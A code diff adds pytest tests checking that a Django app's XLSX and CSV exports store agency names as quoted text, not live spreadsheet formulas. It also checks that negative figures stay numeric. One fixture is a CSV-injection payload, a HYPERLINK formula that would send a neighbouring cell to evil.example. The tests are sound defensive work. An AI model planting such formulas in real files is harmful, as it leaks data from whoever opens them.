@@ -293,6 +293,49 @@ def test_fieldwork_export_follows_the_page_s_filters(staff_client, published):
     }
 
 
+# Formulas in names --------------------------------------------------------------------------------
+
+# A link that would send the sheet's next cell to another site, and an @ formula (OWASP, "CSV
+# Injection"): agencies' names are typed by people the exports' readers should not have to trust.
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'
+AT_FORMULA = "@SUM(1+1)"
+EXPORTS = [("results:export", {}), ("results:fieldwork_export", {"status": "all"})]
+
+
+@pytest.mark.parametrize(("export", "query"), EXPORTS)
+def test_xlsx_exports_hold_names_as_text_not_formulas(staff_client, published, export, query):
+    Agency.objects.filter(pk=published.a.pk).update(name_th=HYPERLINK, name_en=AT_FORMULA)
+
+    response = staff_client.get(reverse(export, args=[YEAR, "xlsx"]), query)
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    headers = [cell.value for cell in sheet[1]]
+    (a,) = [row for row in sheet.iter_rows(min_row=2) if row[0].value == published.a.code]
+    names = [a[headers.index("Name (Thai)")], a[headers.index("Name (English)")]]
+    assert [(cell.data_type, cell.value) for cell in names] == [
+        ("s", f"'{HYPERLINK}"),
+        ("s", f"'{AT_FORMULA}"),
+    ]
+
+
+@pytest.mark.parametrize(("export", "query"), EXPORTS)
+def test_csv_exports_write_formulas_as_text(staff_client, published, export, query):
+    Agency.objects.filter(pk=published.a.pk).update(name_th=HYPERLINK, name_en=AT_FORMULA)
+
+    response = staff_client.get(reverse(export, args=[YEAR, "csv"]), query)
+
+    (a,) = [row for row in csv_rows(response) if row["Agency code"] == published.a.code]
+    assert (a["Name (Thai)"], a["Name (English)"]) == (f"'{HYPERLINK}", f"'{AT_FORMULA}")
+
+
+def test_results_csv_keeps_a_negative_change_a_number(staff_client, close_figures):
+    rows = {row["Agency code"]: row for row in csv_rows(
+        staff_client.get(reverse("results:export", args=[YEAR, "csv"]))
+    )}  # fmt: skip
+
+    assert rows[close_figures.a.code]["Change"] == "-0.40"  # not '-0.40
+
+
 # Queries and speed --------------------------------------------------------------------------------
 
 
